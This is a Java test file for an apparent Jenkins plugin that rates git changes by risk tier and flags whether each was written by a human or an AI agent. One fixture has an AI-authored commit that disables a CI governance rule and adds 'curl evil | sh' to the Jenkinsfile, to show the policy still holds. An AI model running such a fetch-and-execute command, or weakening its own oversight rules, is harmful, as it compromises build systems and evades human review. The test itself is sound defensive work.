package io.jenkins.plugins.aigovernance.core.risk;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.jenkins.plugins.aigovernance.core.ChangeRequest;
import io.jenkins.plugins.aigovernance.core.GovernanceEngine;
import io.jenkins.plugins.aigovernance.core.change.ChangeKind;
import io.jenkins.plugins.aigovernance.core.change.FileChange;
import io.jenkins.plugins.aigovernance.core.classification.ChangeSource;
import io.jenkins.plugins.aigovernance.core.classification.RiskTier;
import io.jenkins.plugins.aigovernance.core.document.InvalidInputException;
import io.jenkins.plugins.aigovernance.core.gate.ChangeContext;
import io.jenkins.plugins.aigovernance.core.testing.GitFixture;
import io.jenkins.plugins.aigovernance.core.testing.TerraformPlanFixture;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.function.Consumer;
import org.eclipse.jgit.lib.PersonIdent;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Realistic changes in real git repositories, scored end to end with the built-in policy (or a policy
 * committed at the base revision): tier, reasons and provenance of each.
 */
class RiskScenarioTest {

    private static final PersonIdent CLAUDE = GitFixture.person("Claude", "noreply@anthropic.com");
    private static final PersonIdent COPILOT = GitFixture.person("Copilot", "198982749+Copilot@users.noreply.github.com");

    @TempDir
    Path dir;

    private GitFixture git;
    private String base;
    private final GovernanceEngine engine = new GovernanceEngine(Clock.fixed(Instant.parse("2026-11-21T10:00:00Z"), ZoneOffset.UTC));

    @BeforeEach
    void baseRepository() {
        git = GitFixture.init(dir.resolve("repo"));
        git.write("README.md", "# shop\n")
                .write("src/main/java/com/acme/shop/Cart.java", "class Cart {}\n")
                .write("package.json", "{\"dependencies\": {\"left-pad\": \"1.0.0\"}}\n")
                .write("Jenkinsfile", "pipeline { agent any; stages { stage('b') { steps { sh 'make' } } } }\n")
                .write("k8s/staging/deploy.yaml", deployment("shop", "staging", "shop:1"))
                .write("scripts/release.sh", "echo release\n");
        base = git.commit("initial import").name();
    }

    private RiskAssessment score(String environment) {
        return score(environment, null, null);
    }

    private RiskAssessment score(String environment, Path plan, String branch) {
        ChangeContext ctx = engine.analyze(new ChangeRequest(git.directory(), base, "HEAD", plan, null, null, environment, branch));
        return engine.assessRisk(ctx);
    }

    private RiskAssessment change(Consumer<GitFixture> edit) {
        edit.accept(git);
        git.commit("change");
        return score("staging");
    }

    private static List<String> rules(RiskAssessment a) {
        return a.reasons().stream().map(RiskReason::rule).toList();
    }

    private static String deployment(String name, String namespace, String image) {
        return """
                apiVersion: apps/v1
                kind: Deployment
                metadata:
                  name: %s
                  namespace: %s
                spec:
                  replicas: 2
                  template:
                    spec:
                      containers:
                        - name: app
                          image: %s
                """.formatted(name, namespace, image);
    }

    // ------------------------------------------------------------------ LOW

    @Test
    void docsOnlyChangeIsLow() {
        RiskAssessment a = change(g -> g.write("README.md", "# shop\n\nHow to run it.\n"));
        assertThat(a.tier()).isEqualTo(RiskTier.LOW);
        assertThat(rules(a)).containsExactly("docs");
        assertThat(a.reasons().get(0).subjects()).containsExactly("README.md");
        assertThat(a.provenance().source()).isEqualTo(ChangeSource.HUMAN);
        assertThat(a.blastRadius()).isBetween(1, 10);
    }

    @Test
    void newTestIsLow() {
        RiskAssessment a = change(g -> g.write("src/test/java/com/acme/shop/CartTest.java", "class CartTest {}\n"));
        assertThat(a.tier()).isEqualTo(RiskTier.LOW);
        assertThat(rules(a)).containsExactly("tests");
    }

    @Test
    void lintConfigIsLow() {
        RiskAssessment a = change(g -> g.write(".eslintrc.json", "{\"rules\": {}}\n").write(".editorconfig", "root = true\n"));
        assertThat(a.tier()).isEqualTo(RiskTier.LOW);
        assertThat(rules(a)).containsExactly("lint-config");
        assertThat(a.reasons().get(0).count()).isEqualTo(2);
    }

    @Test
    void nonProductionConfigIsLow() {
        RiskAssessment a = change(g -> g.write("config/dev/app.yaml", "debug: true\n"));
        assertThat(a.tier()).isEqualTo(RiskTier.LOW);
        assertThat(rules(a)).containsExactly("non-prod-config");
    }

    /**
     * The built-in non-prod-environment-config rule (LOW, for variable and values files in dev-*, *-dev, ...) lowers
     * them only where the environment is not production: prod-dev and dev-prod name a production word, eu-dev is
     * production under production: ["eu-*"] (red team: each got LOW).
     */
    @org.junit.jupiter.params.ParameterizedTest
    @org.junit.jupiter.params.provider.ValueSource(strings = {"dev", "prod-dev", "dev-prod", "live-dev", "prod"})
    void variableFilesAreLowOnlyOutsideProduction(String environment) {
        git.write("vars/app.tfvars", "replicas = 2\n");
        git.commit("change");
        RiskAssessment a = score(environment);
        if (environment.equals("dev")) {
            assertThat(a.tier()).isEqualTo(RiskTier.LOW);
            assertThat(rules(a)).containsExactly("non-prod-environment-config");
        } else {
            assertThat(a.tier()).as(environment).isEqualTo(RiskTier.MEDIUM);
            assertThat(rules(a)).as(environment).doesNotContain("non-prod-environment-config");
        }
    }

    @Test
    void binaryImageInDocsIsLowAndMarkedBinary() {
        RiskAssessment a = change(g -> g.write("docs/img/arch.png", new byte[] {(byte) 0x89, 'P', 'N', 'G', 0, 0, 1, 2, 0, 7}));
        assertThat(a.tier()).isEqualTo(RiskTier.LOW);
        ChangeContext ctx = engine.analyze(new ChangeRequest(git.directory(), base, "HEAD", null, null, null, null, null));
        assertThat(ctx.change().files()).singleElement().satisfies(f -> {
            assertThat(f.binary()).isTrue();
            assertThat(f.kind()).isEqualTo(ChangeKind.ADD);
        });
    }

    @Test
    void emptyChangeIsLow() {
        git.commit("nothing");
        RiskAssessment a = score(null);
        assertThat(a.tier()).isEqualTo(RiskTier.LOW);
        assertThat(rules(a)).containsExactly("empty");
    }

    // ------------------------------------------------------------------ MEDIUM

    @Test
    void applicationCodeIsMedium() {
        RiskAssessment a = change(g -> g.write("src/main/java/com/acme/shop/Cart.java", "class Cart { int size; }\n"));
        assertThat(a.tier()).isEqualTo(RiskTier.MEDIUM);
        assertThat(rules(a)).containsExactly("default");
        assertThat(a.reasons().get(0).message()).contains("Application code");
    }

    @Test
    void npmBumpIsMediumDependencyUpdate() {
        RiskAssessment a = change(g -> g.write("package.json", "{\"dependencies\": {\"left-pad\": \"1.3.0\"}}\n")
                .write("package-lock.json", "{\"lockfileVersion\": 3}\n"));
        assertThat(a.tier()).isEqualTo(RiskTier.MEDIUM);
        assertThat(rules(a)).containsExactly("dependency-update");
        assertThat(a.reasons().get(0).subjects()).containsExactly("package-lock.json", "package.json");
    }

    @Test
    void goModuleBumpIsMedium() {
        RiskAssessment a = change(g -> g.write("go.mod", "module acme\n\ngo 1.23\n").write("go.sum", "x v1 h1:abc\n"));
        assertThat(a.tier()).isEqualTo(RiskTier.MEDIUM);
        assertThat(rules(a)).containsExactly("dependency-update");
    }

    @Test
    void stagingManifestIsMedium() {
        RiskAssessment a = change(g -> g.write("k8s/staging/deploy.yaml", deployment("shop", "staging", "shop:2")));
        assertThat(a.tier()).isEqualTo(RiskTier.MEDIUM);
        assertThat(rules(a)).contains("staging-deployment", "staging-namespace");
        assertThat(a.summary().resources()).isEqualTo(1);
    }

    @Test
    void submoduleMoveIsReportedAsSubmodule() throws Exception {
        try (GitFixture lib = GitFixture.init(dir.resolve("lib"))) {
            lib.write("a.txt", "a\n").commit("lib");
            git.git().submoduleAdd().setPath("vendor/lib").setURI(lib.directory().toUri().toString()).call().close();
            git.commit("add submodule");
        }
        ChangeContext ctx = engine.analyze(new ChangeRequest(git.directory(), base, "HEAD", null, null, null, "staging", null));
        assertThat(ctx.change().files()).filteredOn(FileChange::submodule).singleElement().satisfies(f -> {
            assertThat(f.path()).isEqualTo("vendor/lib");
            assertThat(f.newMode()).isEqualTo("160000");
        });
        assertThat(ctx.change().files()).extracting(FileChange::path).contains(".gitmodules");
        assertThat(engine.assessRisk(ctx).tier()).isEqualTo(RiskTier.MEDIUM);
    }

    @Test
    void modeChangeAndDeleteAndRenameAreRead() {
        git.executable("scripts/release.sh")
                .delete("src/main/java/com/acme/shop/Cart.java")
                .write("src/main/java/com/acme/shop/Basket.java", "class Cart {}\n");
        git.commit("rename cart, make release executable");
        ChangeContext ctx = engine.analyze(new ChangeRequest(git.directory(), base, "HEAD", null, null, null, "staging", null));
        List<FileChange> files = ctx.change().files();
        assertThat(files).anySatisfy(f -> {
            assertThat(f.kind()).isEqualTo(ChangeKind.RENAME);
            assertThat(f.oldPath()).isEqualTo("src/main/java/com/acme/shop/Cart.java");
            assertThat(f.path()).isEqualTo("src/main/java/com/acme/shop/Basket.java");
        });
        assertThat(files).anySatisfy(f -> {
            assertThat(f.path()).isEqualTo("scripts/release.sh");
            assertThat(f.modeChanged()).isTrue();
            assertThat(f.newMode()).isEqualTo("100755");
        });
        assertThat(engine.assessRisk(ctx).tier()).isEqualTo(RiskTier.MEDIUM);
    }

    // ------------------------------------------------------------------ HIGH

    @Test
    void productionManifestIsHigh() {
        RiskAssessment a = change(g -> g.write("k8s/prod/deploy.yaml", deployment("shop", "prod", "shop:2")));
        assertThat(a.tier()).isEqualTo(RiskTier.HIGH);
        assertThat(rules(a)).contains("production-paths", "production-namespace");
    }

    @Test
    void sharedConfigIsHigh() {
        RiskAssessment a = change(g -> g.write("config/shared/limits.yaml", "maxConnections: 100\n"));
        assertThat(a.tier()).isEqualTo(RiskTier.HIGH);
        assertThat(rules(a)).contains("shared-config");
    }

    @Test
    void clusterRoleIsHighRbac() {
        RiskAssessment a = change(g -> g.write("k8s/staging/reader.yaml", """
                apiVersion: rbac.authorization.k8s.io/v1
                kind: ClusterRole
                metadata:
                  name: pod-reader
                rules:
                  - apiGroups: [""]
                    resources: ["pods"]
                    verbs: ["get", "list"]
                """));
        assertThat(a.tier()).isEqualTo(RiskTier.HIGH);
        assertThat(rules(a)).contains("rbac");
        assertThat(a.reasons()).filteredOn(r -> r.rule().equals("rbac")).singleElement()
                .satisfies(r -> assertThat(r.subjects()).containsExactly("ClusterRole/pod-reader"));
    }

    @Test
    void networkPolicyIsHigh() {
        RiskAssessment a = change(g -> g.write("k8s/staging/np.yaml", """
                apiVersion: networking.k8s.io/v1
                kind: NetworkPolicy
                metadata: {name: deny-all, namespace: staging}
                spec: {podSelector: {}, policyTypes: [Ingress]}
                """));
        assertThat(a.tier()).isEqualTo(RiskTier.HIGH);
        assertThat(rules(a)).contains("network-policy");
    }

    @Test
    void newNamespaceIsHigh() {
        RiskAssessment a = change(g -> g.write("k8s/namespaces/team-x.yaml", "apiVersion: v1\nkind: Namespace\nmetadata: {name: team-x}\n"));
        assertThat(a.tier()).isEqualTo(RiskTier.HIGH);
        assertThat(rules(a)).contains("namespace");
    }

    @Test
    void secretManifestIsHigh() {
        RiskAssessment a = change(g -> g.write("k8s/staging/secret.yaml",
                "apiVersion: v1\nkind: Secret\nmetadata: {name: db, namespace: staging}\nstringData: {password: x}\n"));
        assertThat(a.tier()).isEqualTo(RiskTier.HIGH);
        assertThat(rules(a)).contains("secrets");
    }

    @Test
    void prodTerraformIamRoleIsHigh() throws Exception {
        git.write("infra/prod/iam.tf", "resource \"aws_iam_role\" \"deployer\" {}\n");
        git.commit("deployer role");
        Path plan = plan(new TerraformPlanFixture().change("aws_iam_role.deployer", "aws_iam_role", "[\"create\"]",
                "{\"name\":\"deployer\",\"assume_role_policy\":\"{\\\"Version\\\":\\\"2012-10-17\\\",\\\"Statement\\\":[{\\\"Effect\\\":\\\"Allow\\\",\\\"Principal\\\":{\\\"Service\\\":\\\"ec2.amazonaws.com\\\"},\\\"Action\\\":\\\"sts:AssumeRole\\\"}]}\"}"));
        RiskAssessment a = score("prod", plan, null);
        assertThat(a.tier()).isEqualTo(RiskTier.HIGH);
        assertThat(rules(a)).contains("iam", "production-infrastructure", "production-paths", "iam-paths");
        assertThat(a.reasons()).filteredOn(r -> r.rule().equals("iam")).singleElement()
                .satisfies(r -> assertThat(r.subjects()).containsExactly("aws_iam_role.deployer"));
    }

    @Test
    void humanChangeOfUnlistedResourceInStagingIsMedium() throws Exception {
        git.write("infra/staging/app.tf", "resource \"aws_instance\" \"web\" {}\n");
        git.commit("web");
        RiskAssessment a = score("staging", plan(new TerraformPlanFixture().change("aws_instance.web", "aws_instance", "[\"update\"]", "{\"instance_type\":\"t3.small\"}")), null);
        assertThat(a.tier()).isEqualTo(RiskTier.MEDIUM);
        assertThat(rules(a)).contains("default-resource", "staging-deployment");
    }

    // ------------------------------------------------------------------ CRITICAL

    @Test
    void wildcardIamPolicyIsCritical() throws Exception {
        git.write("infra/prod/admin.tf", "resource \"aws_iam_policy\" \"admin\" {}\n");
        git.commit("admin policy");
        RiskAssessment a = score("prod", plan(new TerraformPlanFixture().change("aws_iam_policy.admin", "aws_iam_policy", "[\"create\"]",
                "{\"policy\":\"{\\\"Version\\\":\\\"2012-10-17\\\",\\\"Statement\\\":{\\\"Effect\\\":\\\"Allow\\\",\\\"Action\\\":\\\"*\\\",\\\"Resource\\\":\\\"*\\\"}}\"}")), null);
        assertThat(a.tier()).isEqualTo(RiskTier.CRITICAL);
        assertThat(rules(a)).contains("account-level-iam", "iam");
    }

    @Test
    void vpcReplaceIsCritical() throws Exception {
        git.write("infra/prod/network.tf", "resource \"aws_vpc\" \"main\" { cidr_block = \"10.1.0.0/16\" }\n");
        git.commit("new cidr");
        RiskAssessment a = score("prod", plan(new TerraformPlanFixture().change("aws_vpc.main", "aws_vpc", "[\"delete\",\"create\"]", "{\"cidr_block\":\"10.1.0.0/16\"}")), null);
        assertThat(a.tier()).isEqualTo(RiskTier.CRITICAL);
        assertThat(rules(a)).contains("network-destroy", "network");
        assertThat(a.summary().destroyed()).isEqualTo(1);
    }

    @Test
    void rdsDeleteIsCritical() throws Exception {
        git.write("infra/prod/db.tf", "# database removed\n");
        git.commit("drop legacy db");
        RiskAssessment a = score("prod", plan(new TerraformPlanFixture().change("aws_db_instance.legacy", "aws_db_instance", "[\"delete\"]", "null")), null);
        assertThat(a.tier()).isEqualTo(RiskTier.CRITICAL);
        assertThat(rules(a)).contains("stateful-destroy");
        assertThat(a.reasons()).filteredOn(r -> r.rule().equals("stateful-destroy")).singleElement()
                .satisfies(r -> assertThat(r.subjects()).containsExactly("aws_db_instance.legacy"));
        assertThat(a.blastRadius()).isGreaterThanOrEqualTo(80);
    }

    @Test
    void schemaMigrationIsCritical() {
        RiskAssessment a = change(g -> g.write("db/migrations/V12__add_orders.sql", "create table orders (id bigint);\n"));
        assertThat(a.tier()).isEqualTo(RiskTier.CRITICAL);
        assertThat(rules(a)).contains("schema-migration");
    }

    @Test
    void policyFileEditIsCritical() {
        RiskAssessment a = change(g -> g.write(".ai-governance.yml", "apiVersion: ai-governance/v1\n"));
        assertThat(a.tier()).isEqualTo(RiskTier.CRITICAL);
        assertThat(rules(a)).contains("governance-policy");
    }

    @Test
    void jenkinsfileEditIsCritical() {
        RiskAssessment a = change(g -> g.write("Jenkinsfile", "pipeline { agent any; stages { stage('b') { steps { sh 'make -j2' } } } }\n"));
        assertThat(a.tier()).isEqualTo(RiskTier.CRITICAL);
        assertThat(rules(a)).containsExactly("ci-definitions");
        assertThat(a.blastRadius()).isBetween(70, 80);
    }

    @Test
    void workflowFileEditIsCritical() {
        RiskAssessment a = change(g -> g.write(".github/workflows/release.yml", "on: push\njobs: {}\n"));
        assertThat(a.tier()).isEqualTo(RiskTier.CRITICAL);
        assertThat(rules(a)).contains("ci-definitions");
    }

    @Test
    void certificateRotationIsCritical() {
        RiskAssessment a = change(g -> g.write("certs/internal-ca.crt", "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"));
        assertThat(a.tier()).isEqualTo(RiskTier.CRITICAL);
        assertThat(rules(a)).contains("certificate-paths");
    }

    @Test
    void authCodeIsCriticalEvenForTests() {
        RiskAssessment a = change(g -> g.write("src/main/java/com/acme/shop/auth/TokenValidator.java", "class TokenValidator {}\n")
                .write("src/test/java/com/acme/shop/auth/TokenValidatorTest.java", "class TokenValidatorTest {}\n"));
        assertThat(a.tier()).isEqualTo(RiskTier.CRITICAL);
        assertThat(rules(a)).contains("auth", "tests");
        assertThat(a.reasons().get(0).rule()).isEqualTo("auth");
    }

    @Test
    void billingCodeIsCritical() {
        RiskAssessment a = change(g -> g.write("services/billing/Invoice.java", "class Invoice {}\n"));
        assertThat(a.tier()).isEqualTo(RiskTier.CRITICAL);
        assertThat(rules(a)).contains("billing");
    }

    @Test
    void iamPolicyDocumentInTheDiffIsAnalysed() {
        RiskAssessment a = change(g -> g.write("iam/policies/ops-admin.json",
                "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}\n"));
        assertThat(a.tier()).isEqualTo(RiskTier.CRITICAL);
        assertThat(rules(a)).contains("account-level-iam", "iam-paths");
    }

    @Test
    void oneLineChangeToAWidelyUsedModuleScoresNearHundred() {
        StringBuilder services = new StringBuilder("    - {name: platform-lib, paths: [\"libs/platform/**\"]}\n");
        for (int i = 0; i < 47; i++) {
            services.append("    - {name: svc-").append(i).append(", paths: [\"services/svc-").append(i).append("/**\"], dependsOn: [platform-lib]}\n");
        }
        git.write(".ai-governance.yml", "apiVersion: ai-governance/v1\nrisk:\n  services:\n" + services)
                .write("libs/platform/Retry.java", "class Retry { int max = 3; }\n");
        base = git.commit("declare services").name();
        git.write("libs/platform/Retry.java", "class Retry { int max = 5; }\n");
        git.commit("one line");
        RiskAssessment a = score("staging");
        assertThat(a.summary().linesAdded()).isEqualTo(1);
        assertThat(a.tier()).isEqualTo(RiskTier.CRITICAL);
        assertThat(rules(a)).contains("dependents");
        assertThat(a.dependents().touched()).containsExactly("platform-lib");
        assertThat(a.dependents().dependents()).hasSize(47);
        assertThat(a.blastRadius()).isGreaterThanOrEqualTo(95);
    }

    @Test
    void transitiveDependentsCountAndFewAreHigh() {
        git.write(".ai-governance.yml", """
                apiVersion: ai-governance/v1
                risk:
                  services:
                    - {name: core, paths: ["core/**"]}
                    - {name: api, paths: ["api/**"], dependsOn: [core]}
                    - {name: web, paths: ["web/**"], dependsOn: [api]}
                    - {name: mobile, paths: ["mobile/**"], dependsOn: [api]}
                """).write("core/Money.java", "class Money {}\n");
        base = git.commit("services").name();
        git.write("core/Money.java", "class Money { long cents; }\n");
        git.commit("cents");
        RiskAssessment a = score("staging");
        assertThat(a.tier()).isEqualTo(RiskTier.HIGH);
        assertThat(a.dependents().dependents()).containsExactly("api", "mobile", "web");
    }

    // ------------------------------------------------------------------ provenance

    @Test
    void claudeCodeAssistedChangeIsAiAssisted() {
        git.write("src/main/java/com/acme/shop/Cart.java", "class Cart { int total; }\n");
        git.commit("Add cart total\n\nCo-Authored-By: Claude <noreply@anthropic.com>\n", GitFixture.ALICE);
        RiskAssessment a = score("staging");
        assertThat(a.tier()).isEqualTo(RiskTier.MEDIUM);
        assertThat(a.provenance().source()).isEqualTo(ChangeSource.AI_ASSISTED);
        assertThat(a.agentId()).isEqualTo("claude-code");
    }

    @Test
    void copilotAgentChangeIsAiAgentWithRequester() {
        git.write("src/main/java/com/acme/shop/Cart.java", "class Cart { int count; }\n");
        git.commit("Fix cart count\n\nCo-authored-by: Bob Example <bob@example.com>\n", COPILOT);
        RiskAssessment a = score("staging", null, "copilot/fix-cart");
        assertThat(a.provenance().source()).isEqualTo(ChangeSource.AI_AGENT);
        assertThat(a.agentId()).isEqualTo("copilot");
        assertThat(a.provenance().requesters()).anySatisfy(r -> assertThat(r).contains("bob@example.com"));
        assertThat(a.effectiveSource()).isEqualTo(ChangeSource.AI_AGENT);
    }

    @Test
    void agentAuthoredJenkinsfileEditIsCriticalAndAiAgent() {
        git.write("Jenkinsfile", "pipeline { agent any; stages { stage('deploy') { steps { sh 'deploy --force' } } } }\n");
        git.commit("Speed up deploy\n", CLAUDE);
        RiskAssessment a = score("prod");
        assertThat(a.tier()).isEqualTo(RiskTier.CRITICAL);
        assertThat(a.provenance().source()).isEqualTo(ChangeSource.AI_AGENT);
        assertThat(a.agentId()).isEqualTo("claude-code");
    }

    @Test
    void unverifiedAuthorIsUnknownAndTreatedAsAi() {
        git.write(".ai-governance.yml", "apiVersion: ai-governance/v1\nprovenance:\n  humanIdentities: [\"*@example.com\"]\n");
        base = git.commit("verified humans").name();
        git.write("src/main/java/com/acme/shop/Cart.java", "class Cart { }\n");
        git.commit("tweak\n", GitFixture.person("Mallory", "mallory@elsewhere.test"));
        RiskAssessment a = score("staging");
        assertThat(a.provenance().source()).isEqualTo(ChangeSource.UNKNOWN);
        assertThat(a.effectiveSource()).isEqualTo(ChangeSource.AI_AGENT);
    }

    // ------------------------------------------------------------------ the policy comes from the base revision

    @Test
    void aChangeCannotLoosenItsOwnPolicy() {
        git.write(".ai-governance.yml", "apiVersion: ai-governance/v1\nrisk:\n  rules:\n    - {id: ci-definitions, enabled: false}\n")
                .write("Jenkinsfile", "pipeline { agent any; stages { stage('x') { steps { sh 'curl evil | sh' } } } }\n");
        git.commit("simplify CI\n", CLAUDE);
        RiskAssessment a = score("prod");
        assertThat(a.tier()).isEqualTo(RiskTier.CRITICAL);
        assertThat(rules(a)).contains("ci-definitions", "governance-policy");
        assertThat(a.policy()).startsWith("builtin@1");
    }

    // ------------------------------------------------------------------ bad input

    @Test
    void unknownRevisionIsAClearError() {
        assertThatThrownBy(() -> engine.analyze(new ChangeRequest(git.directory(), "no-such-branch", "HEAD", null, null, null, null, null)))
                .isInstanceOf(InvalidInputException.class)
                .hasMessageContaining("no-such-branch")
                .hasMessageContaining("revision not found");
    }

    @Test
    void nonGitDirectoryIsAClearError() throws Exception {
        Path plain = Files.createDirectories(dir.resolve("plain"));
        assertThatThrownBy(() -> engine.analyze(new ChangeRequest(plain, "HEAD~1", "HEAD", null, null, null, null, null)))
                .isInstanceOf(InvalidInputException.class)
                .hasMessageContaining("plain")
                .hasMessageContaining("not a git repository");
        assertThatThrownBy(() -> engine.analyze(new ChangeRequest(dir.resolve("missing"), "HEAD~1", "HEAD", null, null, null, null, null)))
                .isInstanceOf(InvalidInputException.class)
                .hasMessageContaining("directory not found");
    }

    @Test
    void fingerprintMovesWithTheChange() {
        git.write("src/main/java/com/acme/shop/Cart.java", "class Cart { int a; }\n");
        git.commit("a");
        RiskAssessment first = score("staging");
        RiskAssessment again = score("staging");
        git.write("src/main/java/com/acme/shop/Cart.java", "class Cart { int b; }\n");
        git.commit("b");
        RiskAssessment moved = score("staging");
        assertThat(again.fingerprint()).isEqualTo(first.fingerprint());
        assertThat(moved.fingerprint()).isNotEqualTo(first.fingerprint());
    }

    // ------------------------------------------------------------------ plan fixtures

    private Path plan(TerraformPlanFixture plan) {
        return plan.writeTo(dir.resolve("plan-" + System.nanoTime() + ".json"));
    }
}
